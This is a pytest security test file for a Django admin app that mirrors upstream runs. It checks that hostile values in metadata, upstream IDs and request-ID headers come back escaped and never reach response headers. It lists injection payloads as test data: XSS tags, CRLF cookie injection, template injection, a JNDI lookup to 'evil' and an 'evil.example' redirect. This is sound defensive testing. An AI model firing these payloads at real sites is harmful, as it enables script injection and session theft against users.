"""Hostile values from upstream are escaped in every page, and are in no header."""

import re
from typing import Any
from urllib.parse import quote

import pytest
import requests
from django.contrib.auth.models import User

from runsadmin.models import BulkEdit, Edit, Run
from runsadmin.services import tokens
from tests.form_rows import form_rows
from tests.security.conftest import Site

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE = [
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'onmouseover='alert(1)",
    "</textarea><svg onload=alert(1)>", "javascript:alert(1)", "{{ 7|add:7 }}", "{% now %}",
    "a\r\nSet-Cookie: stolen=1", "\u202egnp.exe", "\u2028", "\ufeff", "%00%0d%0a",
    "\x01\x1b[2J", "${jndi:ldap://evil}", "=HYPERLINK(1)", "x" * 512,
]  # fmt: skip
METADATA = {f"{n}{value}"[:64]: value for n, value in enumerate(HOSTILE[:16])}


def is_clean(response: requests.Response) -> bool:
    """Whether the response has no tag, attribute or header from hostile values."""
    headers = "\n".join(f"{name}: {value}" for name, value in response.headers.items())
    page = response.text if "html" in response.headers.get("Content-Type", "") else ""
    return not (
        re.search(r"<script>alert|<img src=x|<svg onload|'onmouseover='|href=.javascript", page)
        or "stolen" in headers
        or response.cookies.get("stolen")
    )


def test_hostile_metadata_is_escaped_everywhere(site: Site, mirror_run: Any, root: User, sandbox: Any) -> None:
    run = mirror_run(id="run_a", metadata=METADATA, model=HOSTILE[0], instructions=HOSTILE[1], status="failed",
                   last_error={"code": HOSTILE[1], "message": HOSTILE[7]})  # fmt: skip
    browser = site.browser()
    assert browser.sign_in("root", "root").ok
    api = {"Authorization": f"Token {tokens.create(user=root, expires_in=None)}"}
    # An edit with a hostile reason and a conflict over a hostile key, and an edit with a hostile error from upstream.
    key = next(iter(METADATA))
    sandbox.set_metadata("run_a", METADATA | {key: "another client"})
    change = {"metadata": {key: HOSTILE[1]}, "base": METADATA, "reason": HOSTILE[7]}
    conflict = browser.patch("/api/v1/runs/run_a/", json=change, headers=api)
    assert conflict.status_code == 409
    sandbox.fault("status", status=400, method="POST", body={"error": {"message": HOSTILE[0] + HOSTILE[7]}})
    rejected = browser.patch("/api/v1/runs/run_a/", json={"metadata": {key: None}}, headers=api)
    assert rejected.status_code == 422

    # A bulk edit with a hostile patch, and an unknown run.
    run.refresh_from_db()
    list_url = "/admin/runsadmin/run/"
    ticked = {"action": "edit_metadata", "index": "0", "_selected_action": f"{run.pk},987654"}
    form_url = browser.submit(list_url, ticked).url
    rows = form_rows({"what": "set", "key": key, "value": HOSTILE[3]}, {"what": "remove", "key": HOSTILE[1]})
    form = {**rows, "reason": HOSTILE[0]}
    planned = browser.submit(form_url, form)
    bulk_edit = BulkEdit.objects.get()
    assert planned.url.endswith(f"/admin/runsadmin/bulkedit/{bulk_edit.pk}/change/")
    refused = browser.submit(form_url, {**form, "reason": "", "canary": HOSTILE[1]})
    assert refused.status_code == 422

    # All pages and API responses that show hostile values.
    searches = [
        f"{path}<script>alert(1)</script>" for path in ("runsadmin/run/?q=", "runsadmin/run/?model=", "search/?s=")
    ]
    pages = [
        "", "runsadmin/run/", f"runsadmin/run/{run.pk}/change/", f"runsadmin/run/{run.pk}/metadata/", "runsadmin/edit/",
        *(f"runsadmin/edit/{edit.pk}/change/" for edit in Edit.objects.all()),
        "runsadmin/bulkedit/", f"runsadmin/bulkedit/{bulk_edit.pk}/change/", f"runsadmin/bulkedit/{bulk_edit.pk}/csv/",
        f"runsadmin/run/?model={quote(HOSTILE[0])}",
        "runsadmin/thread/", f"runsadmin/thread/{run.thread_id}/change/", *searches,
    ]  # fmt: skip
    responses = [browser.get(f"/admin/{page}") for page in pages]
    assert {response.status_code for response in responses} == {200}
    responses += [
        browser.get(f"/api/v1/{path}", headers=api) for path in ("runs/", "runs/run_a/", "edits/", "threads/")
    ]
    responses += [conflict, rejected, planned, refused]
    for response in responses:
        assert is_clean(response), response.url
        assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "&lt;script&gt;alert" in responses[2].text


def test_hostile_ids_are_in_no_header(site: Site, mirror_run: Any, root: User) -> None:
    run, browser = mirror_run(id="run_a"), site.browser()
    api = {"Authorization": f"Token {tokens.create(user=root, expires_in=None)}"}
    assert browser.sign_in("root", "root").ok
    for upstream_id in ("run\r\nSet-Cookie: stolen=1", "//evil.example", "..", 'x"><img src=x onerror=alert(1)>'):
        Run.objects.filter(pk=run.pk).update(upstream_id=upstream_id)
        (shown,) = browser.get("/api/v1/runs/", headers=api).json()["results"]
        url = shown["mirror"]["url"]
        assert url.startswith(f"{site.origin}/api/v1/runs/")
        refused = browser.patch(url, json={"metadata": {"a": "b"}}, headers=api, allow_redirects=False)
        assert refused.status_code in (404, 422), upstream_id
        page = browser.get(f"/admin/runsadmin/run/{run.pk}/change/")
        assert page.ok
        assert is_clean(page)
        assert is_clean(refused)


@pytest.mark.parametrize(
    ("request_id", "is_used"),
    [
        ("job-7", True),
        ("A1._:/=+-z", True),
        ("x" * 128, True),
        ("x" * 129, False),
        ("<script>", False),
        ("a b", False),
        ("a\tb", False),
        ("ä", False),
        ("%0d%0aSet-Cookie: stolen=1", False),
        ("", False),
    ],
)
def test_only_valid_request_ids_are_used(site: Site, request_id: str, is_used: bool) -> None:
    response = site.browser().get("/admin/login/", headers={"X-Request-ID": request_id.encode()})
    assert (response.headers["X-Request-ID"] == request_id) == is_used
    assert re.fullmatch(r"[A-Za-z0-9._:/=+-]{1,128}", response.headers["X-Request-ID"])
